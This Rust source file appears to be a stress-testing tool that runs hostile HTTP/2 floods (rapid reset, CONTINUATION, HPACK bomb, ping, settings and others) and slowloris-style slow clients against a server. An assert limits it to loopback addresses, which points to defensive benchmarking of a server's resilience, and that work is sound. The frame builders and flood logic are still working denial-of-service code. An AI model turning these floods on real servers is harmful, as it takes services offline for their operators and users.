//! Hostile clients at a fixed rate, bounded in number and time; one thread. A client that is sent away comes again.
//!
//!   attack --addr A --kind KIND [--conns N] [--rate R] [--secs S] [--host H] [--again C]
//!
//! Floods of HTTP/2 send R units a second over N connections: ping settings window unknown reset priority data
//! continuation bomb. Slow clients are N that move one byte a second: slow-head slow-body slow-read. never-read: N that ask for
//! much and take nothing. `--again`: connections opened a second, at first and after being sent away (default 1000).
//! Prints one line when all N were opened once, and a JSON line at the end.
use std::collections::HashMap;
use std::net::{SocketAddr, TcpStream};
use std::os::fd::{AsRawFd, FromRawFd};
use std::time::{Duration, Instant};

/// Bytes that may wait to be sent on one connection before it gets no more.
const WAITING: usize = 64 * 1024;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut f = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    f.extend([kind, flags]);
    f.extend(stream.to_be_bytes());
    f.extend(payload);
    f
}

/// A header block without tables: method (2: GET, 3: POST), scheme, path, host.
fn block(method: u8, path: &str, host: &str) -> Vec<u8> {
    let mut b = vec![0x80 | method, 0x86, 0x04, path.len() as u8];
    b.extend(path.as_bytes());
    b.extend([0x01, host.len() as u8]);
    b.extend(host.as_bytes());
    b
}

/// What a flood sends first, and then again and again.
fn flood(kind: &str, host: &str) -> Option<(Vec<u8>, Box<dyn Fn(u32) -> Vec<u8>>)> {
    let open = frame(1, 4, 1, &block(3, "/1k", host));
    let host = host.to_string();
    Some(match kind {
        "ping" => (vec![], Box::new(|_| frame(6, 0, 0, &[7; 8]))),
        "settings" => (vec![], Box::new(|n| frame(4, 0, 0, &[&[0, 4][..], &(60_000 + n % 2).to_be_bytes()].concat()))),
        "window" => (open, Box::new(|_| frame(8, 0, 1, &[0, 0, 0, 1]))),
        "unknown" => (vec![], Box::new(|_| frame(0xbe, 0, 0, b"x"))),
        "priority" => (vec![], Box::new(|_| frame(2, 0, 3, &[0, 0, 0, 0, 9]))),
        "data" => (open, Box::new(|_| frame(0, 0, 1, &[]))),
        "reset" => (vec![], Box::new(move |n| [frame(1, 5, 2 * n + 1, &block(2, "/1k", &host)), frame(3, 0, 2 * n + 1, &[0, 0, 0, 8])].concat())),
        "continuation" => (frame(1, 0, 1, &block(2, "/1k", &host)), Box::new(|_| frame(9, 0, 1, &[0, 3, b'x', b'-', b'a', 1, b'b']))),
        "bomb" => {
            // One large field in the table, then requests of nothing but references to it.
            let mut large = [block(2, "/1k", &host), vec![0x40, 3, b'x', b'-', b'a', 0x7f, 0x81, 0x1e]].concat();
            large.extend([b'b'; 4000]);
            (frame(1, 5, 1, &large), Box::new(move |n| frame(1, 5, 2 * n + 3, &[block(2, "/1k", &host), vec![0xbe; 8000]].concat())))
        }
        _ => return None,
    })
}

/// One hostile client.
#[derive(Default)]
struct Client { s: Option<TcpStream>, out: Vec<u8>, n: u32, next: f64 }

impl Client {
    fn send(&mut self, b: &[u8]) { self.out.extend_from_slice(b); self.push(); }
    fn push(&mut self) {
        let Some(fd) = self.s.as_ref().map(|s| s.as_raw_fd()) else { return };
        while !self.out.is_empty() {
            let w = unsafe { libc::send(fd, self.out.as_ptr() as *const _, self.out.len(), libc::MSG_DONTWAIT | libc::MSG_NOSIGNAL) };
            if w < 0 && !again() { self.s = None; }
            if w <= 0 { return; }
            self.out.drain(..w as usize);
        }
    }
    /// Takes at most so much; false once the other side is gone.
    fn take(&mut self, most: usize, buf: &mut [u8]) -> bool {
        let Some(s) = &self.s else { return false };
        let mut left = most;
        loop {
            let len = buf.len().min(left);
            if len == 0 { return true; }
            let r = unsafe { libc::recv(s.as_raw_fd(), buf.as_mut_ptr() as *mut _, len, libc::MSG_DONTWAIT) };
            if r > 0 { left -= r as usize; continue; }
            if r < 0 && again() { return true; }
            self.s = None;
            return false;
        }
    }
    /// Whether the other side has hung up on one that never reads.
    fn hung_up(&mut self) -> bool {
        let Some(s) = &self.s else { return true };
        let mut p = libc::pollfd { fd: s.as_raw_fd(), events: libc::POLLRDHUP, revents: 0 };
        let gone = unsafe { libc::poll(&mut p, 1, 0) } > 0 && p.revents & (libc::POLLRDHUP | libc::POLLHUP | libc::POLLERR) != 0;
        if gone { self.s = None; }
        gone
    }
}

fn again() -> bool { std::io::Error::last_os_error().kind() == std::io::ErrorKind::WouldBlock }

/// Begins to connect; what reads slowly has little room for what comes.
fn connect(to: &libc::sockaddr_in, small: bool) -> Option<TcpStream> {
    unsafe {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_NONBLOCK | libc::SOCK_CLOEXEC, 0);
        if fd < 0 { return None; }
        let s = TcpStream::from_raw_fd(fd);
        let room: libc::c_int = 4096;
        if small { libc::setsockopt(fd, libc::SOL_SOCKET, libc::SO_RCVBUF, &room as *const _ as *const _, 4); }
        let r = libc::connect(fd, to as *const _ as *const _, std::mem::size_of::<libc::sockaddr_in>() as u32);
        (r == 0 || std::io::Error::last_os_error().raw_os_error() == Some(libc::EINPROGRESS)).then_some(s)
    }
}

fn main() {
    let mut it = std::env::args().skip(1);
    let mut a = HashMap::new();
    while let (Some(k), Some(v)) = (it.next(), it.next()) { a.insert(k.trim_start_matches("--").to_string(), v); }
    let num = |k: &str, d: f64| a.get(k).and_then(|v| v.parse::<f64>().ok()).unwrap_or(d);
    let (kind, host) = (a["kind"].clone(), a.get("host").cloned().unwrap_or("bench.test".into()));
    let SocketAddr::V4(at) = a["addr"].parse().expect("addr") else { panic!("--addr: an IPv4 address") };
    assert!(at.ip().is_loopback(), "--addr: hostile clients are for servers on loopback");
    let to = libc::sockaddr_in { sin_family: libc::AF_INET as u16, sin_port: at.port().to_be(), sin_addr: libc::in_addr { s_addr: u32::from(*at.ip()).to_be() }, sin_zero: [0; 8] };
    let (conns, rate, secs, come) = (num("conns", 16.0) as usize, num("rate", 10_000.0), num("secs", 10.0), num("again", 1000.0));
    unsafe { let r = libc::rlimit { rlim_cur: 200_000, rlim_max: 200_000 }; libc::setrlimit(libc::RLIMIT_NOFILE, &r); }
    let flood = flood(&kind, &host);
    let h1 = |line: &str, more: &str| format!("{line} HTTP/1.1\r\nHost: {host}\r\n{more}").into_bytes();
    let first = match (&flood, kind.as_str()) {
        (Some((first, _)), _) => [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), frame(4, 0, 0, &[]), first.clone()].concat(),
        (_, "slow-head") => h1("GET /1k", "x-slow: "),
        (_, "slow-body") => h1("POST /1k", "content-length: 1000000\r\n\r\n"),
        (_, "slow-read") => h1("GET /64k", "\r\n").repeat(8),
        (_, "never-read") => h1("GET /64k", "\r\n").repeat(32),
        _ => panic!("--kind {kind}: none that is known"),
    };
    let small = matches!(kind.as_str(), "slow-read" | "never-read");
    let mut all: Vec<Client> = (0..conns).map(|_| Client::default()).collect();
    let (t0, mut buf) = (Instant::now(), vec![0u8; 65536]);
    let (mut opened, mut cut, mut sent, mut due, mut last, mut turn, mut said) = (0u64, 0u64, 0u64, 0.0, 0.0, 0usize, false);
    loop {
        let now = t0.elapsed().as_secs_f64();
        if now >= secs { break; }
        // Whoever is away comes, so many a second.
        let may = (now * come) as u64;
        for c in all.iter_mut().filter(|c| c.s.is_none()) {
            if opened >= may { break; }
            if c.n > 0 { cut += 1; }
            *c = Client { s: connect(&to, small), out: Vec::new(), n: 1, next: now + 1.0 };
            opened += 1;
            c.out = first.clone();
        }
        if !said && opened >= conns as u64 { println!("there"); said = true; }
        for c in all.iter_mut().filter(|c| c.s.is_some()) {
            if !c.out.is_empty() { c.push(); }
            match kind.as_str() {
                "never-read" => { c.hung_up(); }
                "slow-read" if c.next <= now => { c.next = now + 1.0; if c.take(1, &mut buf) { sent += 1; } }
                "slow-read" => { c.hung_up(); }
                _ => { c.take(usize::MAX, &mut buf); }
            }
            if matches!(kind.as_str(), "slow-head" | "slow-body") && c.s.is_some() && c.next <= now { c.next = now + 1.0; c.send(b"x"); sent += 1; }
        }
        if let Some((_, unit)) = &flood {
            due += rate * (now - last);
            // One round over all of them, at most: who takes nothing gets nothing.
            let each = (due / conns as f64).ceil() as u32;
            for _ in 0..conns {
                if due < 1.0 { break; }
                turn = (turn + 1) % conns;
                let c = &mut all[turn];
                if c.s.is_none() || c.out.len() > WAITING { continue; }
                let some = each.min(due as u32);
                let units: Vec<u8> = (c.n..c.n + some).flat_map(|n| unit(n)).collect();
                c.n += some;
                due -= some as f64;
                sent += some as u64;
                c.send(&units);
            }
            due = due.min(rate / 10.0);
        }
        last = now;
        std::thread::sleep(Duration::from_millis(5));
    }
    let there = all.iter().filter(|c| c.s.is_some()).count();
    println!("{{\"kind\":{kind:?},\"opened\":{opened},\"cut\":{cut},\"there\":{there},\"sent\":{sent},\"secs\":{secs}}}");
}
